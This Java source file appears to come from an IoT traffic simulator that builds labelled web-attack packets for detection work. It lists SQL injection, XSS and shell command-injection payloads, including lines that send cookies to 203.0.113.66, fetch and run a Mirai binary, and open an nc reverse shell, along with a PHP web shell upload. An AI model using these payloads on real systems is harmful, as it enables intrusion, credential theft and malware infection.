package io.iotwatch.sim.packets.attack;

import io.iotwatch.sim.packets.lan.Device;
import io.iotwatch.sim.packets.net.Host;
import io.iotwatch.sim.packets.net.Micros;
import io.iotwatch.sim.packets.net.Ports;
import io.iotwatch.sim.packets.net.Scheduler;
import io.iotwatch.sim.packets.net.TcpFlow;
import io.iotwatch.sim.packets.proto.Http;
import io.iotwatch.sim.truth.AttackKind;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;

/**
 * Web attacks on the victim's web UI as a person with curl makes them, one connection per request, a fraction of
 * a second to a second apart: SQL injection, script injection and shell command injection in query parameters
 * (and a form), and the upload of a PHP web shell followed by commands run through it.
 */
final class WebAttack extends Attack {

    static final long SLOT = Micros.seconds(16);
    private static final String CURL = "curl/8.5.0";
    private static final List<String[]> SQL = List.of(
            new String[] {"/login.php", "username", "admin'--"},
            new String[] {"/login.php", "username", "admin' OR '1'='1"},
            new String[] {"/login.php", "username", "' OR 1=1#"},
            new String[] {"/api/device", "id", "1 OR 1=1"},
            new String[] {"/api/device", "id", "1' ORDER BY 10--"},
            new String[] {"/api/device", "id", "1' UNION SELECT username,password FROM users--"},
            new String[] {"/api/device", "id", "-1 UNION ALL SELECT NULL,NULL,concat(user(),0x3a,database())--"},
            new String[] {"/api/device", "id", "1 AND SLEEP(5)"},
            new String[] {"/api/device", "id", "1 AND 1=CONVERT(int,(SELECT @@version))"},
            new String[] {"/api/device", "id", "1'; DROP TABLE users;--"},
            new String[] {"/search", "q", "' OR 'x'='x"},
            new String[] {"/search", "q", "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM "
                    + "information_schema.tables GROUP BY x)a)--"},
            new String[] {"/api/users", "sort", "name,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"},
            new String[] {"/api/users", "id", "1 WAITFOR DELAY '0:0:5'--"});
    private static final List<String[]> XSS = List.of(
            new String[] {"/search", "q", "<script>alert(1)</script>"},
            new String[] {"/search", "q", "\"><script>alert(document.cookie)</script>"},
            new String[] {"/search", "q", "<svg/onload=alert('xss')>"},
            new String[] {"/profile", "name", "<img src=x onerror=alert(1)>"},
            new String[] {"/profile", "name", "<body onload=alert(String.fromCharCode(88,83,83))>"},
            new String[] {"/search", "q", "javascript:alert(1)"},
            new String[] {"/settings", "lang", "en\"><iframe src=javascript:alert(1)>"},
            new String[] {"/search", "q", "<script>new Image().src='http://203.0.113.66/c?'+document.cookie</script>"},
            new String[] {"/error", "msg", "<details open ontoggle=alert(1)>"},
            new String[] {"/search", "q", "'-alert(1)-'"});
    private static final List<String[]> COMMANDS = List.of(
            new String[] {"/cgi-bin/ping.cgi", "host", "127.0.0.1;id"},
            new String[] {"/cgi-bin/ping.cgi", "host", "127.0.0.1;cat /etc/passwd"},
            new String[] {"/cgi-bin/ping.cgi", "host", "127.0.0.1|uname -a"},
            new String[] {"/cgi-bin/ping.cgi", "host", "`id`"},
            new String[] {"/cgi-bin/ping.cgi", "host", "$(whoami)"},
            new String[] {"/cgi-bin/ping.cgi", "host", "127.0.0.1\nid"},
            new String[] {"/cgi-bin/diag.cgi", "cmd", "ls -la /tmp"},
            new String[] {"/cgi-bin/diag.cgi", "target", "8.8.8.8 && cat /etc/shadow"},
            new String[] {"/cgi-bin/diag.cgi", "target",
                "8.8.8.8; cd /tmp; wget http://203.0.113.66/bins/mirai.arm7 -O m; chmod 777 m; ./m iot"},
            new String[] {"/cgi-bin/diag.cgi", "target", "8.8.8.8|busybox nc 203.0.113.66 4444 -e /bin/sh"},
            new String[] {"/goform/setSysTime", "ntp", "pool.ntp.org;reboot"});
    private static final String SHELL = "<?php if(isset($_GET['cmd'])){echo '<pre>';system($_GET['cmd']);echo '</pre>';} ?>\n";

    private final Host attacker;
    private final Device victim;
    private final SplittableRandom rnd;
    private final List<Request> requests;

    WebAttack(AttackKind kind, AttackContext ctx) {
        super(kind);
        this.attacker = ctx.attacker();
        this.victim = ctx.victim(AttackContext.linuxWeb());
        this.rnd = ctx.random();
        this.requests = build();
    }

    @Override
    public void start(long start, Scheduler scheduler) {
        Host target = victim.host();
        scheduler.add(new ToolSource(origin, rnd, start) {
            @Override
            protected void plan(long now, Scheduler s) {
                long t = resolve(now, attacker, target, victim.gateway());
                Ports ports = new Ports(rnd);
                for (Request r : requests) {
                    TcpFlow flow = connection(attacker, ports.next(), target, 80);
                    t = flow.connect(t) + 80;
                    byte[] response = WebServer.response(victim.kind(), t, r.status, r.status == 200 ? "OK" : "Internal Server Error",
                            r.type, r.body, false);
                    t = flow.exchange(true, t, r.bytes, Micros.millis(3 + rnd.nextInt(30)), response);
                    t = flow.close(true, t + 300);
                    t += Micros.millis(300 + rnd.nextInt(700));
                }
            }
        });
    }

    private record Request(byte[] bytes, int status, String type, String body) {
    }

    private List<Request> build() {
        return switch (kind) {
            case SQL_INJECTION -> SQL.stream().map(p -> get(p, 500, "text/html", "<html><body><h1>500 Internal Server Error</h1>"
                    + "<p>You have an error in your SQL syntax near '" + p[2].replace("<", "") + "'</p></body></html>")).toList();
            case XSS -> XSS.stream().map(p -> get(p, 200, "text/html", "<html><body><p>No results for "
                    + p[2] + "</p></body></html>")).toList();
            case COMMAND_INJECTION -> COMMANDS.stream().map(p -> get(p, 200, "text/plain",
                    "PING 127.0.0.1 (127.0.0.1): 56 data bytes\n64 bytes from 127.0.0.1: seq=0 ttl=64 time=0.071 ms\n"
                            + "uid=0(root) gid=0(root)\n")).toList();
            default -> upload();
        };
    }

    private Request get(String[] parameter, int status, String type, String body) {
        String target = parameter[0] + "?" + parameter[1] + "=" + URLEncoder.encode(parameter[2], StandardCharsets.UTF_8);
        return new Request(Http.request("GET", target, "HTTP/1.1", new byte[0], "Host: " + victim(), "User-Agent: " + CURL,
                "Accept: */*"), status, type, body);
    }

    private List<Request> upload() {
        String boundary = "------------------------" + HexFormat.of().toHexDigits(rnd.nextLong());
        byte[] form = Http.text("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\n"
                + "Content-Type: application/x-php\r\n\r\n" + SHELL + "\r\n--" + boundary + "\r\nContent-Disposition: form-data; "
                + "name=\"submit\"\r\n\r\nUpload\r\n--" + boundary + "--\r\n");
        Request post = new Request(Http.request("POST", "/upload.php", "HTTP/1.1", form, "Host: " + victim(), "User-Agent: " + CURL,
                "Accept: */*", "Content-Type: multipart/form-data; boundary=" + boundary), 200, "text/html",
                "<html><body>File uploaded: uploads/shell.php</body></html>");
        List<String[]> commands = List.of(new String[] {"id", "uid=33(www-data) gid=33(www-data) groups=33(www-data)"},
                new String[] {"uname -a", "Linux cam 4.9.37 #1 SMP PREEMPT armv7l GNU/Linux"},
                new String[] {"cat /etc/passwd", "root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33::/var/www:/bin/false"},
                new String[] {"wget http://203.0.113.66/x.sh -O /tmp/x.sh", ""});
        List<Request> all = new ArrayList<>();
        all.add(post);
        for (String[] c : commands) {
            all.add(get(new String[] {"/uploads/shell.php", "cmd", c[0]}, 200, "text/html", "<pre>" + c[1] + "</pre>"));
        }
        return all;
    }

    @Override
    protected List<String> attackers() {
        return List.of(AttackContext.text(attacker));
    }

    @Override
    protected String victim() {
        return AttackContext.text(victim.host());
    }

    @Override
    protected String command() {
        return String.format(Locale.ROOT, "curl, one request per connection: requests=%d target=http://%s/%s", requests.size(),
                victim(), kind == AttackKind.UPLOADING ? " (POST /upload.php shell.php, then GET /uploads/shell.php?cmd=...)" : "");
    }
}
